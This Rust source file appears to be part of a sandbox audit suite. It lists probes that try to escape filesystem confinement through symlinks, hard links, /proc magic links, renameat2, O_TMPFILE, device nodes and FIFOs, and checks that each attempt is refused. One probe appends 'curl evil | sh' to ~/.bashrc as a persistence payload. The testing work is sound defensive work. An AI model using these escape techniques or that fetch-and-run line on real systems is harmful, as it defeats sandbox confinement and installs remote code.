//! Files: writes outside the writable roots through every system-call family, their
//! metadata, changes inside the workspace (refused in `read-only`, working in
//! `workspace-write`), and special files (FIFOs, device nodes, sockets).

use super::{p, root_only, s, Class, Plan, Probe};
use crate::audit::fixture::{skip, Fixture, Skip};
use crate::audit::watch::{Appears, Holds, Sentinel, Worked};
use std::path::PathBuf;

/// A sentinel file `outside/<name>`: its path and its watch.
fn out_file(fx: &Fixture, name: &str) -> (String, Sentinel) {
    let (path, _) = fx.sentinel(&fx.outside.join(name));
    (s(&path), Sentinel::record(&path))
}

/// A workspace file `ws/<name>` with content.
fn ws_file(fx: &Fixture, name: &str) -> PathBuf {
    fx.file(&fx.ws.join(name), "workspace file\n")
}

/// An attack on one outside file through `op` with `args` built from its path.
fn on_outside(fx: &Fixture, op: &str, extra: &[&str]) -> Result<Plan, Skip> {
    let (f, w) = out_file(fx, "target");
    let mut args = vec![f.as_str()];
    args.extend_from_slice(extra);
    Ok(Plan::op(fx, op, &args).watch(w))
}

/// A path outside that must not appear.
fn new_outside(fx: &Fixture, name: &str) -> (String, Appears) {
    let p = fx.outside.join(name);
    (s(&p), Appears::new(&p))
}

pub(super) fn probes() -> Vec<Probe> {
    use Class::{FsMetadata as M, FsWrite as W, SpecialFiles as S, Workspace as WS};
    vec![
        // ------------------------------------------------------------ fs-write
        p(W, "overwrite", "open(O_WRONLY)+write an existing file outside; proves its content cannot change", |fx| {
            on_outside(fx, "overwrite", &["pwned\n"])
        }),
        p(W, "append", "open(O_APPEND)+write outside; proves a file outside cannot grow", |fx| on_outside(fx, "append", &[])),
        p(W, "write-trunc", "open(O_CREAT|O_TRUNC)+write an existing file outside; proves it is not replaced", |fx| {
            on_outside(fx, "write", &[])
        }),
        p(W, "open-trunc", "open(O_TRUNC) without writing; proves truncation on open is refused", |fx| {
            on_outside(fx, "open-trunc", &[])
        }),
        p(W, "create", "open(O_CREAT|O_EXCL) a new file outside; proves nothing new appears outside", |fx| {
            let (f, w) = new_outside(fx, "created");
            Ok(Plan::op(fx, "create", &[&f]).watch(w))
        }),
        p(W, "truncate", "truncate(2) a file outside by path; proves its size cannot change", |fx| {
            on_outside(fx, "truncate", &["0"])
        }),
        p(W, "ftruncate", "open for writing then ftruncate(2); proves the descriptor path is closed too", |fx| {
            on_outside(fx, "ftruncate", &["0"])
        }),
        p(W, "unlink", "unlink(2) a file outside; proves it cannot be deleted", |fx| on_outside(fx, "unlink", &[])),
        p(W, "rename-out", "rename a file outside into the workspace; proves it cannot be moved away", |fx| {
            let (f, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "rename", &[&f, &s(&fx.ws.join("stolen"))]).watch(w))
        }),
        p(W, "rename-over", "rename a workspace file over a file outside; proves it cannot be replaced", |fx| {
            let (f, w) = out_file(fx, "target");
            let src = ws_file(fx, "replacement");
            Ok(Plan::op(fx, "rename", &[&s(&src), &f]).watch(w))
        }),
        p(W, "exchange", "renameat2(RENAME_EXCHANGE) a workspace file with one outside; proves no swap", |fx| {
            let (f, w) = out_file(fx, "target");
            let src = ws_file(fx, "swap");
            Ok(Plan::op(fx, "exchange", &[&s(&src), &f]).watch(w))
        }),
        p(W, "rename-noreplace", "renameat2(RENAME_NOREPLACE) a workspace file to a new name outside; proves nothing lands outside", |fx| {
            let (f, w) = new_outside(fx, "moved-in");
            let src = ws_file(fx, "mover");
            Ok(Plan::op(fx, "rename-noreplace", &[&s(&src), &f]).watch(w))
        }),
        p(W, "rename-dir", "rename a directory outside into the workspace; proves directories outside stay put", |fx| {
            let d = fx.dir(&fx.outside.join("dir"));
            let w = Sentinel::record(&d);
            Ok(Plan::op(fx, "rename", &[&s(&d), &s(&fx.ws.join("dir"))]).watch(w))
        }),
        p(W, "mkdir", "mkdir(2) outside; proves no directory can be created outside", |fx| {
            let (f, w) = new_outside(fx, "newdir");
            Ok(Plan::op(fx, "mkdir", &[&f]).watch(w))
        }),
        p(W, "rmdir", "rmdir(2) an empty directory outside; proves it cannot be removed", |fx| {
            let d = fx.dir(&fx.outside.join("empty"));
            let w = Sentinel::record(&d);
            Ok(Plan::op(fx, "rmdir", &[&s(&d)]).watch(w))
        }),
        p(W, "hardlink-write", "link(2) a file outside into the workspace, then write the link; proves hard links do not reach out", |fx| {
            let (f, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "link-write", &[&f, &s(&fx.ws.join("hl")), "pwned\n"]).watch(w))
        }),
        p(W, "symlink-write", "a new symlink in the workspace to a file outside, written through; proves symlinks do not reach out", |fx| {
            let (f, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "symlink-write", &[&f, &s(&fx.ws.join("sl")), "pwned\n"]).watch(w))
        }),
        p(W, "planted-symlink", "write through a symlink planted in the workspace before the run; proves planted links do not reach out", |fx| {
            let (f, w) = out_file(fx, "target");
            let link = fx.ws.join("planted");
            fx.symlink(std::path::Path::new(&f), &link);
            Ok(Plan::op(fx, "overwrite", &[&s(&link), "pwned\n"]).watch(w))
        }),
        p(W, "planted-dir-symlink", "create a file through a planted symlink to a directory outside; proves directory links do not reach out", |fx| {
            let link = fx.ws.join("outdir");
            fx.symlink(&fx.outside, &link);
            let (_, w) = new_outside(fx, "via-link");
            Ok(Plan::op(fx, "create", &[&s(&link.join("via-link"))]).watch(w))
        }),
        p(W, "dotdot", "write outside through a relative path with `..` from the workspace; proves path tricks do not escape", |fx| {
            let (_, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "overwrite", &["../outside/target", "pwned\n"]).watch(w))
        }),
        p(W, "tmpfile-linkat", "open(O_TMPFILE) in the workspace, then linkat it in outside; proves anonymous files cannot be linked out", |fx| {
            let (f, w) = new_outside(fx, "linked");
            Ok(Plan::op(fx, "tmpfile-link", &[&s(&fx.ws), &f]).watch(w))
        }),
        p(W, "fdlink-write", "linkat an O_PATH descriptor of a file outside into the workspace, then write; proves descriptors do not reach out", |fx| {
            let (f, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "fdlink-write", &[&f, &s(&fx.ws.join("fdl")), "pwned\n"]).watch(w))
        }),
        p(W, "proc-fd-reopen", "reopen a read-only descriptor for writing through /proc/self/fd; proves magic links do not upgrade access", |fx| {
            on_outside(fx, "reopen-write", &["pwned\n"])
        }),
        p(W, "open-by-handle", "name_to_handle_at + open_by_handle_at(O_WRONLY); proves opening by inode is refused", |fx| {
            on_outside(fx, "open-by-handle", &["pwned\n"])
        }),
        p(W, "openat-dirfd", "openat(2) relative to an O_PATH descriptor of a directory outside; proves *at calls are confined", |fx| {
            let (_, w) = new_outside(fx, "at-created");
            Ok(Plan::op(fx, "openat-write", &[&s(&fx.outside), "at-created"]).watch(w))
        }),
        p(W, "proc-self-root", "write a file outside through /proc/self/root/...; proves the root magic link does not escape", |fx| {
            let (f, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "overwrite", &[&format!("/proc/self/root{f}"), "pwned\n"]).watch(w))
        }),
        p(W, "proc-self-cwd", "write outside through /proc/self/cwd/../...; proves the cwd magic link does not escape", |fx| {
            let (_, w) = out_file(fx, "target");
            Ok(Plan::op(fx, "overwrite", &["/proc/self/cwd/../outside/target", "pwned\n"]).watch(w))
        }),
        p(W, "mkfifo", "mkfifo(3) outside; proves no FIFO can be created outside", |fx| {
            let (f, w) = new_outside(fx, "fifo");
            Ok(Plan::op(fx, "mkfifo", &[&f]).watch(w))
        }),
        p(W, "mknod", "mknod(2) a character device outside; proves no device node can be created outside", |fx| {
            root_only(fx, "creating a device node needs CAP_MKNOD")?;
            let (f, w) = new_outside(fx, "null");
            Ok(Plan::op(fx, "mknod", &[&f, "1", "3"]).watch(w))
        }),
        p(W, "system-tmp", "create a file in /var/tmp, a world-writable system directory; proves system paths are read-only", |fx| {
            let f = PathBuf::from("/var/tmp").join(format!("{}-system", fx.tag));
            Ok(Plan::op(fx, "create", &[&s(&f)]).watch(Appears::outside_job(&f)))
        }),
        p(W, "home-dotfile", "append to ~/.bashrc; proves nothing can persist in the home's dotfiles", |fx| {
            let (path, _) = fx.sentinel(&fx.home.join(".bashrc"));
            let w = Sentinel::record(&path);
            Ok(Plan::op(fx, "append", &[&s(&path), "curl evil | sh\n"]).watch(w))
        }),
        // ------------------------------------------------------------ fs-metadata
        p(M, "chmod", "chmod(2) a file outside; proves its mode cannot change", |fx| on_outside(fx, "chmod", &["0777"])),
        p(M, "fchmod", "fchmod(2) through a read-only descriptor of a file outside; proves descriptors do not bypass the mounts", |fx| {
            on_outside(fx, "fchmod", &["0777"])
        }),
        p(M, "chmod-dir", "chmod(2) a directory outside; proves directory modes are protected too", |fx| {
            let d = fx.dir(&fx.outside.join("d"));
            let w = Sentinel::record(&d);
            Ok(Plan::op(fx, "chmod", &[&s(&d), "0777"]).watch(w))
        }),
        p(M, "chown", "chown(2) a file outside to its own owner (still a change: ctime); proves ownership calls are refused", |fx| {
            let (uid, gid) = (fx.id.uid.to_string(), fx.id.gid.to_string());
            on_outside(fx, "chown", &[&uid, &gid])
        }),
        p(M, "fchown", "fchown(2) through a read-only descriptor; proves descriptors do not bypass the mounts", |fx| {
            let (uid, gid) = (fx.id.uid.to_string(), fx.id.gid.to_string());
            on_outside(fx, "fchown", &[&uid, &gid])
        }),
        p(M, "utimes", "utimensat(2) a file outside; proves its times cannot be forged", |fx| on_outside(fx, "utimes", &[])),
        p(M, "futimes", "futimens(2) through a read-only descriptor; proves times cannot be forged through descriptors", |fx| {
            on_outside(fx, "futimes", &[])
        }),
        p(M, "setxattr", "lsetxattr(2) a user attribute on a file outside; proves extended attributes are protected", |fx| {
            on_outside(fx, "setxattr", &["user.cordon-audit", "x"])
        }),
        p(M, "fsetxattr", "fsetxattr(2) through a read-only descriptor; proves descriptors do not bypass the mounts", |fx| {
            on_outside(fx, "fsetxattr", &["user.cordon-audit", "x"])
        }),
        p(M, "removexattr", "lremovexattr(2) an attribute the host set on a file outside; proves attributes cannot be removed", |fx| {
            let (f, _) = out_file(fx, "target");
            let c = std::ffi::CString::new(f.clone()).map_err(|_| Skip("path".into()))?;
            if let Err(e) = cordon_stage::probe::set_xattr(&c, c"user.cordon-audit", b"keep", true) {
                return skip(format!("user xattrs unsupported here: {e}"));
            }
            let w = Sentinel::record(std::path::Path::new(&f));
            Ok(Plan::op(fx, "removexattr", &[&f, "user.cordon-audit"]).watch(w))
        }),
        // ------------------------------------------------------------ workspace
        p(WS, "create", "create a new file in the workspace; refused in read-only, works in workspace-write", |fx| {
            let f = fx.ws.join("new-file");
            Ok(Plan::op(fx, "create", &[&s(&f), "new\n"]).watch(Holds::new(&f, "new")).in_workspace(fx))
        }),
        p(WS, "overwrite", "overwrite a workspace file; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "edit");
            Ok(Plan::op(fx, "overwrite", &[&s(&f), "edited\n"]).watch(Holds::new(&f, "edited")).in_workspace(fx))
        }),
        p(WS, "truncate", "truncate a workspace file; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "shrink");
            Ok(Plan::op(fx, "truncate", &[&s(&f), "0"]).watch(Sentinel::record(&f)).in_workspace(fx))
        }),
        p(WS, "unlink", "delete a workspace file; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "doomed");
            Ok(Plan::op(fx, "unlink", &[&s(&f)]).watch(Sentinel::record(&f)).in_workspace(fx))
        }),
        p(WS, "rename", "rename across workspace directories; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "a/from");
            fx.dir(&fx.ws.join("b"));
            let to = fx.ws.join("b/to");
            Ok(Plan::op(fx, "rename", &[&s(&f), &s(&to)]).watch(Appears::new(&to)).in_workspace(fx))
        }),
        p(WS, "hardlink", "hard-link across workspace directories; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "a/orig");
            fx.dir(&fx.ws.join("b"));
            let to = fx.ws.join("b/link");
            Ok(Plan::op(fx, "link", &[&s(&f), &s(&to)]).watch(Appears::new(&to)).in_workspace(fx))
        }),
        p(WS, "symlink", "create a symlink in the workspace; refused in read-only, works in workspace-write", |fx| {
            let to = fx.ws.join("link");
            Ok(Plan::op(fx, "symlink", &["README", &s(&to)]).watch(Appears::new(&to)).in_workspace(fx))
        }),
        p(WS, "mkdir", "mkdir in the workspace; refused in read-only, works in workspace-write", |fx| {
            let d = fx.ws.join("newdir");
            Ok(Plan::op(fx, "mkdir", &[&s(&d)]).watch(Appears::new(&d)).in_workspace(fx))
        }),
        p(WS, "chmod", "chmod a workspace file; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "script.sh");
            Ok(Plan::op(fx, "chmod", &[&s(&f), "0755"]).watch(Sentinel::record(&f)).in_workspace(fx))
        }),
        p(WS, "utimes", "set a workspace file's times; refused in read-only, works in workspace-write", |fx| {
            let f = ws_file(fx, "touched");
            Ok(Plan::op(fx, "utimes", &[&s(&f)]).watch(Sentinel::record(&f)).in_workspace(fx))
        }),
        p(WS, "mkfifo", "mkfifo in the workspace; refused in read-only, works in workspace-write", |fx| {
            let f = fx.ws.join("fifo");
            Ok(Plan::op(fx, "mkfifo", &[&s(&f)]).watch(Appears::new(&f)).in_workspace(fx))
        }),
        p(WS, "tmpfile-linkat", "O_TMPFILE + linkat within the workspace; refused in read-only, works in workspace-write", |fx| {
            let f = fx.ws.join("materialized");
            Ok(Plan::op(fx, "tmpfile-link", &[&s(&fx.ws), &s(&f)]).watch(Appears::new(&f)).in_workspace(fx))
        }),
        // ------------------------------------------------------------ special-files
        p(S, "host-fifo-outside", "write into a FIFO outside that a host process reads; proves special files outside are closed", |fx| {
            let f = fx.outside.join("fifo");
            let reader = crate::audit::watch::FifoReader::new(fx, &f)?;
            Ok(Plan::op(fx, "open-w-write", &[&s(&f), "injected\n"]).watch(reader))
        }),
        p(S, "planted-dev-null", "open for writing a c 1:3 node planted in the workspace; proves planted device nodes do not work (nodev)", |fx| {
            let f = plant_device(fx, "null", 1, 3)?;
            Ok(Plan::op(fx, "open-w", &[&s(&f)]).watch(Worked))
        }),
        p(S, "planted-dev-kmsg", "open for writing a c 1:11 (kmsg) node planted in the workspace; proves no path to the kernel log", |fx| {
            let f = plant_device(fx, "kmsg", 1, 11)?;
            Ok(Plan::op(fx, "open-w", &[&s(&f)]).watch(Worked))
        }),
        p(S, "mknod-in-workspace", "mknod a character device inside the writable workspace; proves no device can be made even where writes work", |fx| {
            root_only(fx, "creating a device node needs CAP_MKNOD")?;
            let f = fx.ws.join("made-null");
            Ok(Plan::op(fx, "mknod", &[&s(&f), "1", "3"]).watch(Appears::new(&f)))
        }),
        p(S, "host-dev-kmsg", "open the host's /dev/kmsg for writing (nothing written); proves existing device nodes are not writable", |fx| {
            root_only(fx, "only root may open /dev/kmsg for writing on the host")?;
            Ok(Plan::op(fx, "open-w", &["/dev/kmsg"]).watch(Worked))
        }),
        p(S, "socket-in-workspace", "connect to a unix socket a host daemon listens on inside the workspace; proves sockets in the workspace do not open", |fx| {
            let (name, w) = fx.unix_stream(Some(&fx.ws.join("daemon.sock")))?;
            Ok(Plan::op(fx, "unix-connect", &[&name]).watch_box(w))
        }),
        p(S, "fifo-in-git", "write into a FIFO planted inside .git that a host process reads; proves protected paths hold their special files", |fx| {
            let repo = fx.git_repo(&fx.ws)?;
            let f = repo.join(".git/ff");
            let reader = crate::audit::watch::FifoReader::new(fx, &f)?;
            Ok(Plan::op(fx, "open-w-write", &[&s(&f), "injected\n"]).watch(reader))
        }),
    ]
}

/// A device node `ws/<name>` (c MAJOR:MINOR, mode 0666) planted by the host.
fn plant_device(fx: &Fixture, name: &str, major: u32, minor: u32) -> Result<PathBuf, Skip> {
    use nix::sys::stat::{mknod, Mode, SFlag};
    if cordon_stage::host::euid() != 0 {
        return skip("planting a device node needs the audit to run as root");
    }
    let f = fx.ws.join(name);
    mknod(&f, SFlag::S_IFCHR, Mode::from_bits_truncate(0o666), libc::makedev(major, minor))
        .map_err(|e| Skip(format!("mknod {}: {e}", f.display())))?;
    fx.own(&f);
    Ok(f)
}
